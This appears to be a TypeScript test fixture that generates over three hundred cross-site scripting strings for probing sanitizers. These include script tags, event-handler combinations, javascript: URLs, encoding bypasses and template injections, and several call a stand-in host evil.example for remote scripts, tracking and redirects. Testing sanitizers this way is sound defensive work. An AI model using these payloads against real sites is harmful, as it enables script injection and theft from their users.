// More than three hundred strings that would run a script, fetch or navigate if anything took them for markup.

const CALL = 'alert(1)';

const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'iframe',
  'input',
  'details',
  'marquee',
  'object',
  'form',
  'style',
  'link',
  'math',
  'template',
];
const EVENTS = [
  'onload',
  'onerror',
  'onfocus',
  'onclick',
  'onmouseover',
  'ontoggle',
  'onanimationend',
  'onpointerenter',
  'onbegin',
  'onbeforetoggle',
];

const WHOLE = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `"><script>${CALL}</script>`,
  `'-${CALL}-'`,
  `\`-${CALL}-\``,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `<!--><script>${CALL}</script>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `javascript:${CALL}`,
  `jAvAsCrIpT:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:msgbox(1)`,
  `<a href="javascript:${CALL}">x</a>`,
  `[x](javascript:${CALL})`,
  `![x](https://evil.example/track.png)`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<img src=https://evil.example/t.png>`,
  `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example/"><button>x</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#x3C;script&#x3E;${CALL}`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\u003Cscript\u003E${CALL}\u003C/script\u003E`,
  `\uFF1Cscript\uFF1E${CALL}`,
  `<img src=x onerror\u00A0=${CALL}>`,
  `\u202E<script>${CALL}</script>`,
  `\u001B]8;;javascript:${CALL}\u0007x`,
  `__proto__`,
  `constructor`,
  `toString`,
];

const SHAPES = [
  (tag: string, event: string) => `<${tag} src=x ${event}=${CALL}>`,
  (tag: string, event: string) => `"'><${tag}/${event}="${CALL}" autofocus tabindex=1 open>x</${tag}>`,
];

export function xssStrings(): string[] {
  const built = TAGS.flatMap((tag) => EVENTS.flatMap((event) => SHAPES.map((shape) => shape(tag, event))));
  return [...WHOLE, ...built];
}
